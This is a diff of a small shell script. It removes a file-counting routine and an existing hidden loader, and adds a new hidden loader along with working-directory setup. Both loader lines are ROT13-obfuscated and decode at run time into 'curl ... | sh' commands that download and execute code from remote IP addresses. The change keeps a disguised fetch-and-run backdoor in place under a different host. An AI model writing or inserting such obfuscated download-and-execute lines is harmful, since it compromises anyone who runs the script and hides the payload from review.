@@ -1,4 +1,4 @@
 #!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
-echo 'phey -f uggc://198.51.100.23:8000/fgntr2 | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh
+echo 'phey -f uggcf://203.0.113.9/k | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
